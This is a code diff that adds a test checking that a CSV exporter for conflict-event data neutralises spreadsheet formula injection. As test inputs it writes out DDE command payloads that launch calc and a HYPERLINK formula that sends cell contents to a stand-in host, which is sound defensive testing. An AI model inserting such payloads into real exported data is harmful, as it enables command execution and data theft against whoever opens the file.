@@ -24,7 +24,7 @@ from sitroom.export import (
     export,
     picture_to_dict,
 )
-from sitroom.export.acled import disorder_type, interaction_code
+from sitroom.export.acled import disorder_type, interaction_code, neutralise_cell
 from sitroom.picture import build_ledger, ledger
 from sitroom.records import (
     Actor,
@@ -410,6 +410,36 @@ def test_acled_csv_skips_background_and_codes_foreign_forces(picture: Picture) -
     assert row["tags"] == "status=claimed"
     # Its own report has no source name (so its ref), then the evidence's report's source.
     assert row["source"] == "r2.txt; Wire A"
+
+
+def test_acled_csv_cells_never_start_a_formula(picture: Picture) -> None:
+    # Finding: text from the reports starting with =, +, -, @, tab or CR reached spreadsheets
+    # as a formula. Such text gets a leading ', as OWASP advises; coordinates stay numbers.
+    battle = picture.events[0]
+    assert battle.location is not None
+    place = dataclasses.replace(
+        battle.location, name="-2+3+cmd|' /C calc'!A0", latitude=-33.8688, longitude=-70.6693
+    )
+    event = dataclasses.replace(battle, location=place, notes="@SUM(1+1)*cmd|' /C calc'!A0")
+    documents = tuple(
+        dataclasses.replace(d, source='=HYPERLINK("http://x.example/?"&A1,"Wire")')
+        for d in picture.documents
+    )
+    actors = tuple(
+        dataclasses.replace(a, name="+1+1") if a.id == battle.actor1 else a for a in picture.actors
+    )
+    hostile = dataclasses.replace(picture, events=(event,), documents=documents, actors=actors)
+    [row] = _csv_rows(render(hostile, "acled-csv"))[1]
+    assert row["location"] == "'-2+3+cmd|' /C calc'!A0"
+    assert row["notes"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["source"] == '\'=HYPERLINK("http://x.example/?"&A1,"Wire")'
+    assert row["actor1"] == "'+1+1"
+    assert (row["latitude"], row["longitude"]) == ("-33.8688", "-70.6693")
+    for cell in ("\tx", "\rx", "-x", "=1", "+1", "@x"):
+        assert neutralise_cell("admin1", cell) == "'" + cell
+    assert neutralise_cell("latitude", "-1.5") == "-1.5"
+    assert neutralise_cell("latitude", "-1+1") == "'-1+1"
+    assert neutralise_cell("fatalities", -3) == -3
 
 
 @pytest.mark.parametrize(
